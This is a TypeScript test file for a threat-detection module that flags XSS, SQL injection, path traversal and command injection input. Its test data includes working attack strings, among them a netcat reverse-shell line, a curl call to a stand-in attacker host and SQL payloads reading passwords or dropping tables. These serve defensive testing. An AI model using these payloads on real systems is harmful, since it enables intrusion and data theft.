import { isChangedBySanitizing } from './sanitizer.js';
import {
  ATTACK_EXAMPLES,
  THREAT_TYPES,
  detectThreats,
  highestSeverity,
  severityOf,
  type ThreatType,
} from './threat-detector.js';

const typesOf = (value: string): ThreatType[] => detectThreats(value).map((t) => t.type);

describe('severityOf', () => {
  it.each([
    ['XSS_ATTEMPT', 'high'],
    ['SQL_INJECTION_ATTEMPT', 'high'],
    ['PATH_TRAVERSAL_ATTEMPT', 'medium'],
    ['COMMAND_INJECTION_ATTEMPT', 'medium'],
    ['ANYTHING_ELSE', 'low'],
    ['', 'low'],
  ])('%s is %s', (type, severity) => {
    expect(severityOf(type)).toBe(severity);
  });
});

describe('detectThreats', () => {
  describe('XSS_ATTEMPT (high)', () => {
    it.each([
      ['<script>alert(1)</script>', 'Script, iframe, object or embed tag'],
      ['</SCRIPT>', 'Script, iframe, object or embed tag'],
      ['<iframe src=x>', 'Script, iframe, object or embed tag'],
      ['<object data=x>', 'Script, iframe, object or embed tag'],
      ['<embed src=x>', 'Script, iframe, object or embed tag'],
      ['javascript:alert(1)', 'javascript: URL'],
      ['JAVA\nSCRIPT:alert(1)', 'javascript: URL'],
      ['vbscript:msgbox(1)', 'vbscript: URL'],
      ['data:text/html,<b>x</b>', 'Scriptable data: URL'],
      ['data:image/svg+xml;base64,PHN2Zz4=', 'Scriptable data: URL'],
      ['<img src=x onerror=alert(1)>', 'Inline event handler (on…=)'],
      ['" onmouseover="alert(1)', 'Inline event handler (on…=)'],
      ['&#106;avascript:alert(1)', 'javascript: URL'],
      ['%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'Script, iframe, object or embed tag'],
    ])('%j', (input, description) => {
      expect(detectThreats(input)).toEqual([{ type: 'XSS_ATTEMPT', severity: 'high', description }]);
    });
  });

  describe('SQL_INJECTION_ATTEMPT (high)', () => {
    it.each([
      ['1 UNION SELECT password FROM users', 'UNION SELECT'],
      ['1 union all select null', 'UNION SELECT'],
      ['SELECT * FROM users', 'SELECT probe'],
      ['SELECT @@version', 'SELECT probe'],
      ['select name from users where id=1', 'SELECT … FROM statement'],
      ['INSERT INTO users VALUES (1)', 'INSERT INTO statement'],
      ['UPDATE users SET role=admin', 'UPDATE … SET statement'],
      ['DELETE FROM users;', 'DELETE FROM statement'],
      ['DROP TABLE users', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
      ['truncate table logs', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
      ['ALTER TABLE users ADD x int', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
      ['CREATE TABLE x (a int)', 'Schema change (DROP, TRUNCATE, ALTER, CREATE)'],
      ["EXEC('SELECT 1')", 'Stored procedure call (EXEC)'],
      ['EXEC xp_cmdshell', 'Stored procedure call (EXEC)'],
      ["' OR 1=1", "Always-true condition (' OR 1=1)"],
      ["admin' or 'a'='a", "Always-true condition (' OR 1=1)"],
      ["' OR ''='", "Always-true condition (' OR ''=')"],
      ['1 OR 1=1', 'Always-true condition (OR 1=1)'],
      ["admin'--", 'SQL comment after a quote or semicolon'],
      ['x; --', 'SQL comment after a quote or semicolon'],
      ["admin'#", 'SQL comment after a quote or semicolon'],
      ['x; SHUTDOWN ', 'Stacked SQL statement'],
    ])('%j', (input, description) => {
      expect(detectThreats(input)).toEqual([
        { type: 'SQL_INJECTION_ATTEMPT', severity: 'high', description },
      ]);
    });
  });

  describe('PATH_TRAVERSAL_ATTEMPT (medium)', () => {
    it.each([
      ['../../etc/passwd', 'Parent directory sequence (../ or ..\\)'],
      ['..\\..\\windows\\win.ini', 'Parent directory sequence (../ or ..\\)'],
      ['%2e%2e%2fetc%2fpasswd', 'Parent directory sequence (../ or ..\\)'],
      ['%2E%2E', 'Encoded parent directory sequence'],
      ['%252e%252e/', 'Encoded parent directory sequence'],
      ['%c0%ae%c0%ae/', 'Encoded parent directory sequence'],
    ])('%j', (input, description) => {
      expect(detectThreats(input)).toEqual([
        { type: 'PATH_TRAVERSAL_ATTEMPT', severity: 'medium', description },
      ]);
    });
  });

  describe('COMMAND_INJECTION_ATTEMPT (medium)', () => {
    const afterMeta = 'Shell command after a metacharacter (; | & ` $( )';
    it.each([
      ['; ls', afterMeta],
      ['a;whoami', afterMeta],
      ['| nc -e sh 10.0.0.1 4444', afterMeta],
      ['& ping -c 10 127.0.0.1', afterMeta],
      ['&& curl http://evil.example', afterMeta],
      ['|| id', afterMeta],
      ['`whoami`', afterMeta],
      ['; sleep 5', afterMeta],
      ['$(whoami)', 'Command substitution $(…)'],
    ])('%j', (input, description) => {
      expect(detectThreats(input)).toEqual([
        { type: 'COMMAND_INJECTION_ATTEMPT', severity: 'medium', description },
      ]);
    });
  });

  it('reports several types at once, in the order of THREAT_TYPES', () => {
    expect(typesOf('<script>x</script> ../etc; cat /etc/passwd UNION SELECT 1')).toEqual([...THREAT_TYPES]);
  });

  describe('benign input yields no threat', () => {
    it.each([
      'Please select a plan from the list below',
      'Hello, I would like to update my account',
      'Can you delete my data?',
      'Create an account for my team',
      'We drop user sessions daily',
      'please execute (the plan)',
      'select one from the menu',
      'AT&T',
      'R&D; ping me later',
      'Tom & Jerry',
      'Q&A: how does it work?',
      'Terms | Privacy',
      'Hello; thanks',
      'Cost is $5 (approx)',
      'Our score is 100%',
      'Wait... what?',
      "O'Brien",
      "We're '#1' in sales -- really",
      'the one= thing',
      'data: 5 rows',
      'data:image/png;base64,iVBORw0KGgo=',
      'I <3 this product',
      'Python developer here\nRuby too',
      'https://play.google.com/store/apps/details?id=com.example.vpn&hl=en',
      '',
    ])('%j', (input) => {
      expect(detectThreats(input)).toEqual([]);
    });
  });
});

describe('highestSeverity', () => {
  it.each([
    [[], null],
    [[{ severity: 'low' }], 'low'],
    [[{ severity: 'low' }, { severity: 'medium' }], 'medium'],
    [[{ severity: 'medium' }, { severity: 'high' }, { severity: 'low' }], 'high'],
  ] as const)('%j → %s', (threats, expected) => {
    expect(highestSeverity(threats)).toBe(expected);
  });

  it('rates a detected SQL injection and path traversal as high', () => {
    expect(highestSeverity(detectThreats("../x ' OR 1=1"))).toBe('high');
  });
});

describe('ATTACK_EXAMPLES', () => {
  it('are the six examples of the security demo page, in order', () => {
    expect(ATTACK_EXAMPLES.map((e) => e.id)).toEqual([
      'script-injection',
      'html-injection',
      'sql-injection',
      'javascript-protocol',
      'data-url',
      'event-handler',
    ]);
  });

  it.each([
    ['script-injection', ['XSS_ATTEMPT'], true],
    ['html-injection', ['XSS_ATTEMPT'], true],
    ['sql-injection', ['SQL_INJECTION_ATTEMPT'], false],
    ['javascript-protocol', ['XSS_ATTEMPT'], true],
    ['data-url', ['XSS_ATTEMPT'], true],
    ['event-handler', ['XSS_ATTEMPT'], true],
  ])('%s is detected as %j (changed by sanitizing: %s)', (id, types, changed) => {
    const example = ATTACK_EXAMPLES.find((e) => e.id === id);
    expect(example).toBeDefined();
    const payload = example?.payload ?? '';
    expect(typesOf(payload)).toEqual(types);
    expect(isChangedBySanitizing(payload)).toBe(changed);
  });

  it('each has a label to show', () => {
    for (const example of ATTACK_EXAMPLES) expect(example.label.length).toBeGreaterThan(0);
  });
});
